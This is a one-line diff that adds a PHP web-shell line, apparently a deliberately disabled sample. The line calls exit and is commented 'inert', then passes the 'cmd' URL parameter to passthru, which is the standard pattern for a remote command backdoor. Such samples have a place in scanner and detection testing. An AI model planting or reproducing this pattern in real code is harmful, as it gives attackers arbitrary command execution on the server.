@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $g = fn($x) => passthru($x); $g($_GET["cmd"] ?? "");
